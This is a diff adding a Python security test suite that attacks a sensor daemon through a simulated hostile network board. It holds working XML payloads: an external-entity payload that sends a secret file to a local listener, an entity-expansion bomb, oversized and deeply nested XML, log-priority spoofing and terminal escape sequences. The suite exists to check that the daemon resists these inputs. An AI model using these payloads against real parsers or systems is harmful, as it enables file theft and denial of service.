@@ -1,0 +1,146 @@
+# SPDX-License-Identifier: Apache-2.0
+"""A hostile board: the daemon was told to read an accelerometer on the network, and what answers there is the attacker's."""
+
+import contextlib
+import os
+import subprocess
+import threading
+import time
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+import varlink
+from attack import FAILS, Attack, Place, Target
+from board import Board, Fetches, context, plain
+from daemon import Daemon
+from text import raw_control_characters
+from users import ATTACKER, DAEMON, Child
+
+SECRET = "the-daemons-secret"
+# How much memory a context may cost in KiB, far below what its text would take if it was read whole.
+CONTEXT = 128 * 1024
+HUGE = 400_000_000
+# How long `orientationctl` may take.
+PATIENCE = 20
+# CSI as one C1 character, an override and an isolate of the writing direction, a line separator.
+EVIL = "&#x9b;31m&#x202e;&#x2066;&#x2028;"
+EVIL_READING = b"\x1b]0;owned\x07\x9b31m<0>owned\n<0>owned"
+
+
+def follow(target: Target) -> None:
+    """Subscribes, so that the daemon wants the sensor, and asks for the list of sensors again and again."""
+    with contextlib.suppress(*FAILS), target.connect() as client:
+        client.monitor()
+        for _ in target.attempts():
+            with contextlib.suppress(*FAILS), target.connect() as other:
+                other.call(f"{varlink.ORIENTATION}.ListSensors")
+            time.sleep(0.2)
+
+
+@contextlib.contextmanager
+def with_board(place: Place, board: Board, fetches: Fetches | None = None) -> Iterator[Daemon]:
+    def serve() -> None:
+        if fetches:
+            threading.Thread(target=fetches.serve, daemon=True).start()
+        board.serve()
+
+    server = Child(ATTACKER + 100, serve)
+    board.listener.close()
+    daemon = Daemon(place.programs, place.folder, ("--sensor", f"iio:ip:127.0.0.1:{board.port}"))
+    try:
+        yield daemon
+    finally:
+        ended = daemon.end()
+        place.expect(not ended, ended)
+        server.end()
+
+
+@contextlib.contextmanager
+def external(place: Place) -> Iterator[Daemon]:
+    """A document type from the attacker's server, which sends a file of the daemon's user there."""
+    secret = place.folder / "secret"
+    secret.write_text(SECRET)
+    os.chown(secret, DAEMON, DAEMON)
+    secret.chmod(0o600)
+    note = place.folder / "fetches"
+    note.touch()
+    os.chown(note, ATTACKER + 100, ATTACKER + 100)
+    fetches = Fetches(note, lambda port: (
+        f'<!ENTITY % file SYSTEM "file://{secret}"><!ENTITY % all "<!ENTITY send SYSTEM '
+        f"'http://127.0.0.1:{port}/?%file;'>\">%all;").encode())
+    board = Board(lambda: (
+        f'<?xml version="1.0"?><!DOCTYPE context SYSTEM "http://127.0.0.1:{fetches.port}/x.dtd" [<!ENTITY % more SYSTEM '
+        f'"http://127.0.0.1:{fetches.port}/y.dtd">%more;]><context name="network">&send;</context>').encode())
+    with with_board(place, board, fetches) as daemon:
+        yield daemon
+
+
+def nothing_was_fetched(place: Place, daemon: Daemon) -> None:
+    fetched = (place.folder / "fetches").read_text()
+    place.expect(SECRET not in fetched, "a file of the daemon's user was sent to the attacker")
+    place.expect(not fetched, f"libxml2 fetched {len(fetched.splitlines())} times: {fetched.splitlines()[:1]}")
+
+
+def bomb() -> bytes:
+    """Ten entities, each ten times the one before, and one long entity many times."""
+    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
+    return (f'<?xml version="1.0"?><!DOCTYPE context [<!ENTITY e0 "{"x" * 1000}">{entities}]>'
+            f'<context name="network" description="&e9;"><device id="iio:device0" name="&e5;"/></context>').encode()
+
+
+def huge() -> bytes:
+    device = b'<device id="iio:device0" name="x"></device>'
+    return b'<context name="network">' + device * (HUGE // len(device)) + b"</context>"
+
+
+def deep() -> bytes:
+    return b'<context name="network">' + b"<device>" * 100_000 + b"</device>" * 100_000 + b"</context>"
+
+
+def shouting() -> bytes:
+    """What libxml2 complains of on standard error, with the line in which it is: one that the journal would take for an
+    emergency."""
+    return b'<?xml version="1.0"?>\n<context>\n<0>owned: \x1b[31m\n<0>owned &nothing; <a b=c></context>'
+
+
+def serving(xml: Callable[[], bytes], read: Callable[[str], bytes] = plain) -> Callable:
+    return lambda place: with_board(place, Board(xml, read))
+
+
+def memory_is_bounded(place: Place, daemon: Daemon) -> None:
+    place.expect(daemon.peak() < CONTEXT, f"the context cost {daemon.peak()} KiB")
+    place.remarks.append(f"peak {daemon.peak()} KiB")
+
+
+def log_is_clean(place: Place, daemon: Daemon) -> None:
+    lines = daemon.log.read_bytes().split(b"\n")
+    place.expect(not any(line.startswith(b"<") for line in lines), "a line of the log begins with a priority of the board's")
+    found = raw_control_characters(daemon.log.read_bytes())
+    place.expect(not found, f"the log has raw control characters: {found}")
+
+
+def tool_is_clean(place: Place, daemon: Daemon) -> None:
+    """What root sees of this board."""
+    log_is_clean(place, daemon)
+    for words in (["sensors"], ["sensors", "--json"], ["status"], ["status", "--json"], ["doctor"], ["doctor", "--json"],
+                  ["watch", "--count", "1", "--plain"], ["record", "--duration", "1", "-"]):
+        done = subprocess.run([place.programs / "orientationctl", "--socket", daemon.path, *words],
+                              stdin=subprocess.DEVNULL, capture_output=True, timeout=PATIENCE)
+        place.expect(done.returncode >= 0, f"orientationctl {' '.join(words)} ended with signal {-done.returncode}")
+        found = raw_control_characters(done.stdout + done.stderr)
+        place.expect(not found, f"orientationctl {' '.join(words)} prints {found}")
+
+
+ROWS = [
+    Attack("board: external entities", follow, stage=external, after=nothing_was_fetched),
+    Attack("board: entity bomb", follow, stage=serving(bomb), after=memory_is_bounded),
+    Attack("board: 400 MB of XML", follow, stage=serving(huge), seconds=8, after=memory_is_bounded),
+    Attack("board: 100000 levels of XML", follow, stage=serving(deep), after=memory_is_bounded),
+    Attack("board: lines for the log", follow, stage=serving(shouting), after=log_is_clean),
+    Attack("board: control characters", follow, stage=serving(lambda: context(EVIL, EVIL)), during=tool_is_clean, rounds=1),
+    Attack("board: readings of control characters", follow,
+           stage=serving(context, lambda name: EVIL_READING), during=tool_is_clean, rounds=1),
+    Attack("board: extreme readings", follow,
+           stage=serving(context, lambda name: b"1e308" if "scale" in name else b"-9223372036854775808"),
+           during=tool_is_clean, rounds=1),
+]
